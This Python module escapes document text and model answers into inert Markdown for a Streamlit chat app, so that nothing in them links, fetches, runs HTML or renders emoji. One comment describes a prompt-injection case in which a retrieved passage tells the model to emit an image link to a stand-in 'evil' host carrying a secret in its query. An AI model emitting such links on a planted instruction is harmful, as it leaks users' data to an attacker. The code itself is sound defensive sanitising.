"""Text as Markdown that cannot link, fetch, run HTML or format: for document text, file names, questions
and generated answers, wherever they are rendered (the app, an exported chat opened in any viewer)."""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator

# Every ASCII punctuation character may be backslash-escaped in CommonMark and then renders as itself.
# These are the ones Markdown, GFM or Streamlit's extensions (":color[...]", ":emoji:", "$math$") use; "/"
# because Streamlit rewrites ":material/" in the raw text before parsing.
_MD_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~$:^&=\"'%@/])")
_LEADING_SPACE = re.compile(r"^[ \t]+", re.MULTILINE)
_BLANK_LINES = re.compile(r"\n\s*\n\s*")
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
# Streamlit turns URLs, "www." names and e-mail addresses into links, and ":name:" into emoji or icons, in
# the text AFTER backslash escapes are resolved, so escaping cannot stop it. Such spans are shown as code:
# code is never linked or replaced, and it copies exactly as it reads. (An invisible word joiner inside
# them, the earlier way, was copied along with the text.)
_LIVE = re.compile(
    r"(?P<url>\b(?:[A-Za-z][A-Za-z0-9+.-]*://|www\.)[^\s`]*)"
    r"|(?P<email>[\w.+-]+@[\w-]+(?:\.[\w-]+)+)"
    r"|(?P<shortcode>:(?:\+1|-1|[\w-]*[^\W\d_][\w-]*):)",
    re.IGNORECASE,
)
_TRAILING = ".,;:!?)]}'\""  # sentence punctuation after a URL stays outside its code span


def _live_spans(text: str) -> list[tuple[str, bool]]:
    """``text`` cut into (part, is_live) pieces; live parts are what Streamlit would link or replace."""
    parts: list[tuple[str, bool]] = []
    last = 0
    for m in _LIVE.finditer(text):
        span = m.group(0)
        if m.lastgroup == "url":
            span = span.rstrip(_TRAILING)
        if not span:
            continue
        parts += [(text[last : m.start()], False), (span, True)]
        last = m.start() + len(span)
    parts.append((text[last:], False))
    return [(part, live) for part, live in parts if part]


def escape_markdown(text: str) -> str:
    """Document text as Markdown that renders exactly as the text: no links, images, HTML, emoji
    shortcodes or formatting. Paragraph breaks (blank lines) are kept; single line breaks become
    spaces, as in any paragraph."""
    text = _CONTROL.sub("", str(text).replace("\r\n", "\n").replace("\r", "\n"))
    text = _LEADING_SPACE.sub("", text)  # four spaces would start a code block
    text = _BLANK_LINES.sub("\n\n", text.strip())
    return "".join(f"`{part}`" if live else _MD_SPECIAL.sub(r"\\\1", part) for part, live in _live_spans(text))


_CODE_SPAN = re.compile(r"(`[^`\n]+`)")


def escape_message(text: str) -> str:
    """``escape_markdown`` for the app's own messages, which mark commands as `code`: code spans are
    kept (Markdown renders their content literally), everything else is escaped."""
    parts = _CODE_SPAN.split(str(text))
    return "".join(part if i % 2 else escape_markdown(part) for i, part in enumerate(parts))


# In generated answers formatting (lists, bold) is kept, but nothing may fetch or link anywhere:
# a passage can instruct the model to emit ![x](https://evil/?q=secret), and the browser would fetch it.
# "$" too: Streamlit reads "요금은 $5, 회원은 3$입니다" as LaTeX from one dollar sign to the next (a "$" after a
# figure closes what one before a figure opened), and answers about money write amounts both ways.
_ANSWER_SPECIAL = re.compile(r"([\[\]<>\\$])")
_CODE = re.compile(r"(```.*?```|`[^`\n]+`)", re.DOTALL)  # the answer's own code: left as it is


def safe_answer_markdown(text: str) -> str:
    """An answer as Markdown with formatting kept but links, images, autolinks and HTML made literal."""
    text = _CONTROL.sub("", text)
    out = []
    for i, piece in enumerate(_CODE.split(text)):
        if i % 2:  # code is shown literally already: nothing in it links, fetches or runs
            out.append(piece)
            continue
        for part, live in _live_spans(piece):
            if live and not part.startswith(":"):  # an emoji in an answer is harmless; a link is not
                out.append(f"`{part}`")
            else:
                out.append(_ANSWER_SPECIAL.sub(r"\\\1", part))
    return "".join(out)


def safe_stream(deltas: Iterable[str]) -> Iterator[str]:
    """``safe_answer_markdown`` for a token stream: text is released at whitespace, so a URL split
    across tokens is escaped as a whole."""
    pending = ""
    for delta in deltas:
        pending += delta
        cut = max(pending.rfind(" "), pending.rfind("\n"), pending.rfind("\t"))
        if cut >= 0:
            ready, pending = pending[: cut + 1], pending[cut + 1 :]
            yield safe_answer_markdown(ready)
    if pending:
        yield safe_answer_markdown(pending)
